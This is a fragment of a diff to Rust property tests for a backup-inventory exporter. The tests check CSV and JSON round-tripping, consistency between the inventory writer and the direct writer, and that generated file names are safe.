+            prop_assert_eq!(&json["count"], rows.len());
+            let written_rows = json["backups"].as_array().unwrap();
+            prop_assert_eq!(written_rows.len(), rows.len());
+            for ((found, row), read) in written_rows.iter().zip(&rows).zip(&page.rows) {
+                if read.read.is_err() {
+                    prop_assert_eq!(found, row);
+                    continue;
+                }
+                for name in NAMES {
+                    prop_assert_eq!(&found[name], &expected(row.get(name), name), "{}", name);
+                }
+            }
+            for delimiter in Delimiter::ALL {
+                let records = read(&written(Format::Csv(delimiter), &page.rows), delimiter.sign()).map_err(TestCaseError::fail)?;
+                prop_assert_eq!(records.len(), rows.len() + 1);
+                for ((record, row), came) in records[1..].iter().zip(&rows).zip(&page.rows) {
+                    prop_assert_eq!(record.len(), records[0].len());
+                    let raw = unguarded(&record[23].0);
+                    if came.read.is_err() {
+                        prop_assert_eq!(serde_json::from_str::<Json>(raw).unwrap(), row.clone());
+                    } else {
+                        prop_assert_eq!(raw, "");
+                    }
+                    for (name, (cell, _)) in NAMES.into_iter().zip(record).filter(|(name, _)| !matches!(*name, "id" | "status")) {
+                        let cell = unguarded(cell);
+                        match expected(row.get(name), name) {
+                            Json::Null => prop_assert_eq!(cell, ""),
+                            Json::String(text) => prop_assert_eq!(cell, text),
+                            value => prop_assert_eq!(serde_json::from_str::<Json>(cell).unwrap(), value),
                         }
                     }
                 }
@@ -572,31 +706,30 @@ mod tests {
         }
 
         #[test]
-        fn a_reader_that_cuts_at_semicolons_finds_no_formula_either(backup in any_backup()) {
-            let csv = written(Format::Csv, &[backup]);
-            for cell in csv.split([';', '\r', '\n']) {
-                let cell = cell.trim_matches(|c: char| c == '"' || c == '\u{feff}' || c == '\0' || c.is_whitespace());
-                prop_assert!(!cell.starts_with(FORMULA), "{cell:?}");
+        fn what_the_inventory_keeps_is_written_alike(rows in prop::collection::vec(any_row(), 0..4)) {
+            let body = serde_json::json!({ "backups": rows }).to_string();
+            let page = answer::list(body.as_bytes()).unwrap();
+            let mut all = crate::inventory::Inventory::default();
+            let mut kept = Vec::new();
+            for row in &page.rows {
+                if all.push(row) {
+                    kept.push(row.clone());
+                }
             }
-        }
-
-        #[test]
-        fn every_json_reads_back_to_its_backups(backups in prop::collection::vec(any_backup(), 0..4)) {
-            let json = written(Format::Json, &backups);
-            let value: serde_json::Value = serde_json::from_str(&json).unwrap();
-            prop_assert_eq!(&value["count"], backups.len());
-            prop_assert_eq!(value["backups"].as_array().unwrap().len(), backups.len());
-            let lines: Vec<_> = json.lines().collect();
-            prop_assert_eq!(lines.len(), backups.len() + 2);
-            for (line, backup) in lines[1..].iter().zip(backups) {
-                prop_assert_eq!(Backup::read(line.trim_end_matches(',')), Ok(backup));
+            prop_assert_eq!(all.len(), kept.len());
+            for format in [COMMA, Format::Json] {
+                let mut writer = Writer::new(format, about(kept.len()));
+                for entry in all.iter() {
+                    writer.push(&entry.read(), entry.raw().unwrap_or_default());
+                }
+                prop_assert_eq!(writer.finish().unwrap(), written(format, &kept));
             }
         }
 
         #[test]
         fn no_file_system_refuses_the_name(millis in any::<i64>(), rows in any::<usize>()) {
             let about = About { as_of: Instant::from_millis(millis / 1_000_000), ..about(rows) };
-            let name = file_name(Format::Csv, &about);
+            let name = file_name(COMMA, &about);
             prop_assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)), "{name}");
         }
     }
